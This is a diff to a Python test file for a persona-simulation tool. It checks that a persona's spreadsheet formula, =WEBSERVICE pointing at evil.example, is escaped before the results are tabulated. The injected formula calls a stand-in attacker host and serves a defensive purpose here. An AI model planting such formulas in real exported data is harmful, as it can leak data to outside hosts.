@@ -65,7 +65,7 @@ async def test_one_object_from_a_whole_world_with_a_pydantic_schema(model, fake_
 
 
 async def test_per_persona_field_names_give_a_table(model, fake_openai):
-    stances = {"Lisa Carter": "for", "Oscar": "against", "Marcos Almeida": "for"}
+    stances = {"Lisa Carter": "for", "Oscar": "against", "Marcos Almeida": "=WEBSERVICE(\"https://evil.example\")"}
 
     def responder(body: dict) -> str:
         name = subject_of(body)
@@ -81,12 +81,14 @@ async def test_per_persona_field_names_give_a_table(model, fake_openai):
     assert rows == [
         {"persona": "Lisa Carter", "stance": "for", "favourite colour": "blue", "note": note},
         {"persona": "Oscar", "stance": "against", "favourite colour": "", "note": note},
-        {"persona": "Marcos Almeida", "stance": "for", "favourite colour": "blue", "note": note},
+        # A formula a persona wrote is a spreadsheet's text, not a call to whoever it names.
+        {"persona": "Marcos Almeida", "stance": "'=WEBSERVICE(\"https://evil.example\")", "favourite colour": "blue",
+         "note": note},
     ]
     # Each persona's extraction reads its own memory, which holds what it said.
     oscar = next(r.body for r in fake_openai.requests if is_extraction(r.body) and subject_of(r.body) == "Oscar")
     assert "You: Oscar replies to" in oscar["messages"][1]["content"]
-    assert ResultsReducer.tally(result, "stance") == {"for": 2, "against": 1}
+    assert ResultsReducer.tally(result, "stance") == {"for": 1, "against": 1, '=WEBSERVICE("https://evil.example")': 1}
 
 
 async def test_a_json_schema_is_enforced_and_one_failing_persona_is_reported(model, fake_openai):
